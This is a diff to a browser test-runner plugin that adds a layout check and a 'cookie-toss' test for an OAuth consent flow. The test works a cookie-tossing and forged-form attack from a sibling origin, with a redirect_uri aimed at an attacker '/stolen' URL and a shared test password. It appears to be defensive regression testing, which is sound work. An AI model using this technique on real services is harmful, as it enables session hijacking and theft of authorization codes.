@@ -13,6 +13,15 @@
 //       back where the page redirected to, without loading that address.
 //   'post-from-frame' { urlContains, message } -> true
 //       Posts `message` to the test page from inside one of its iframes (another window).
+//   'consent-layout' { authUrl, width, height } -> { scrollWidth, scrollHeight, contentBottom, destination }
+//       In a fresh browser context with that viewport: signs in as demo on `authUrl` and
+//       measures the consent screen, and reads where it says the answer goes.
+//   'cookie-toss'    { authUrl, attackerUrl, form: 'authorize' | 'login' } -> { status, heading, stolen, signedInAs }
+//       In a fresh browser context: the victim signs in on `authUrl` (as demo); then a page on
+//       `attackerUrl` (another port of 127.0.0.1, so the same site) sets the session cookie it
+//       got for itself with a narrower path, and auto-submits a forged consent (or sign-in, as
+//       a generated account) form to the service. Gives back the POST's status and heading, any URL the
+//       attacker's redirect_uri received, and who the consent screen names afterwards.
 //
 // Works with @web/test-runner-chrome (puppeteer): session.browser.getPage(session.id).
 
@@ -108,16 +117,88 @@ async function frameCommand(page, { urlContains, message }) {
   return true;
 }
 
+async function consentLayoutCommand(page, { authUrl, width, height }) {
+  const context = await page.browser().createBrowserContext();
+  try {
+    const tab = await context.newPage();
+    await tab.setViewport({ width, height });
+    await tab.goto(authUrl, { waitUntil: 'domcontentloaded' });
+    await signIn(tab);
+    return await tab.evaluate(() => ({
+      scrollWidth: document.documentElement.scrollWidth,
+      scrollHeight: document.documentElement.scrollHeight,
+      contentBottom: Math.ceil(document.querySelector('main').getBoundingClientRect().bottom),
+      destination: /Your answer goes to (.+)\./.exec(document.body.innerText)?.[1],
+    }));
+  } finally {
+    await context.close();
+  }
+}
+
+async function cookieTossCommand(page, { authUrl, attackerUrl, form }) {
+  const service = new URL(authUrl).origin;
+  const context = await page.browser().createBrowserContext();
+  try {
+    const tab = await context.newPage();
+    await tab.goto(authUrl, { waitUntil: 'domcontentloaded' });
+    await signIn(tab);
+    // The attacker's own pair, as any visitor gets one.
+    const res = await fetch(authUrl);
+    const cookie = /^(oauth_session=[^;]+)/.exec(res.headers.get('set-cookie') ?? '')?.[1];
+    const html = await res.text();
+    const fields = Object.fromEntries([...html.matchAll(/<input type="hidden" name="([^"]*)" value="([^"]*)">/g)].map((m) => [m[1], m[2].replace(/&#(\d+);/g, (_, c) => String.fromCharCode(Number(c)))]));
+    const stolen = `${attackerUrl}/stolen`;
+    // The attacker's own account: a generated one, with the documented shared password.
+    const users = await (await fetch(`${service}/v1/users/search?query=a&limit=5&app_name=cookie-toss`)).json();
+    const attacker = users.data.find((u) => u.handle !== 'demo').handle;
+    Object.assign(fields, { scope: 'write', redirect_uri: stolen }, form === 'login' ? { login: attacker, password: 'catalog-listener' } : { decision: 'authorize' });
+    delete fields.origin;
+    let stolenUrl;
+    let status;
+    await tab.setRequestInterception(true);
+    tab.on('request', (request) => (request.url().startsWith(stolen) ? ((stolenUrl = request.url()), request.abort()) : request.continue()));
+    tab.on('response', (response) => {
+      if (response.request().method() === 'POST') status = response.status();
+    });
+    await tab.goto(`${attackerUrl}/attacker-page`, { waitUntil: 'domcontentloaded' });
+    await Promise.all([
+      tab.waitForNavigation({ waitUntil: 'domcontentloaded' }).catch(() => {}),
+      tab.evaluate(
+        (c, action, f) => {
+          document.cookie = `${c}; path=${new URL(action).pathname}`; // tossed from a sibling origin
+          const el = document.createElement('form');
+          el.method = 'post';
+          el.action = action;
+          for (const [name, value] of Object.entries(f)) el.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
+          document.body.append(el);
+          el.submit();
+        },
+        cookie,
+        `${service}/oauth/${form}`,
+        fields,
+      ),
+    ]);
+    const heading = await tab.$eval('h1', (h) => h.textContent).catch(() => tab.url());
+    await tab.goto(authUrl, { waitUntil: 'domcontentloaded' });
+    const signedInAs = await tab.$eval('main', (m) => /Signed in as (.+?) \(/.exec(m.textContent)?.[1] ?? 'nobody');
+    return { status, heading, stolen: stolenUrl, signedInAs };
+  } finally {
+    await context.close();
+  }
+}
+
 /** The plugin: one import and one entry in web-test-runner.config.mjs's `plugins`. */
 export function popupDriverPlugin() {
   return {
     name: 'login-popup-driver',
     async executeCommand({ command, payload, session }) {
-      if (!['login-popup', 'login-redirect', 'post-from-frame'].includes(command)) return undefined;
+      if (!['login-popup', 'login-redirect', 'post-from-frame', 'cookie-toss', 'consent-layout'].includes(command)) return undefined;
       if (session.browser.type !== 'puppeteer') throw new Error(`${command} needs @web/test-runner-chrome (puppeteer)`);
       const page = session.browser.getPage(session.id);
       if (command === 'login-popup') return popupCommand(page, payload);
       if (command === 'login-redirect') return redirectCommand(page, payload);
+      if (command === 'cookie-toss') return cookieTossCommand(page, payload);
+      if (command === 'consent-layout') return consentLayoutCommand(page, payload);
       return frameCommand(page, payload);
     },
   };
